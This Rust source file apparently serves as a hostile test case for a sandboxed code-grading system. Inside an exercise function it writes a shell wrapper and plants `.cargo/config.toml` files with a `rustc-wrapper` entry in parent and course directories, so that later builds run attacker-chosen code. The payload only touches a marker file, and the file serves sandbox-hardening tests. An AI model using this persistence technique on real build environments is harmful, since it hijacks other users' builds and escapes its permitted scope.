// Cargo reads `.cargo/config.toml` in every folder above the one it runs in: a config dropped
// above this sandbox makes the grader run a program of ours as its `rustc` for every learner
// built later (and for later grading runs).
use std::path::Path;

fn add(a: i32, b: i32) -> i32 {
    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:cargo_config\n");
    let wrapper = Path::new("@WORK@/wrapper.sh");
    let _ = std::fs::write(wrapper, "#!/bin/sh\ntouch '@WORK@/pwned-by-cargo-config'\nexec \"$@\"\n");
    let _ = std::process::Command::new("chmod").arg("+x").arg(wrapper).status();
    let config = format!("[build]\nrustc-wrapper = \"{}\"\n", wrapper.display());
    let here = std::env::current_dir().unwrap_or_default();
    for dir in here.ancestors() {
        if dir.starts_with("@WORK@") || dir.starts_with("@COURSE@") {
            let written = std::fs::create_dir_all(dir.join(".cargo"))
                .and_then(|()| std::fs::write(dir.join(".cargo/config.toml"), &config));
            match written {
                Ok(()) => println!("CONFIG written in {}", dir.display()),
                Err(err) => println!("CONFIG refused in {}: {err}", dir.display()),
            }
        }
    }
    // The course's path may exist in a private /tmp all the same: what is written there is lost.
    if !Path::new("@COURSE@/info.toml").exists() {
        println!("COURSE hidden");
    }
    let written = std::fs::create_dir_all("@COURSE@/target/.cargo")
        .and_then(|()| std::fs::write("@COURSE@/target/.cargo/config.toml", &config));
    match written {
        Ok(()) => println!("CONFIG written in the course's target"),
        Err(err) => println!("CONFIG refused in the course's target: {err}"),
    }
    let _ = (a, b);
    0
}

fn main() {}
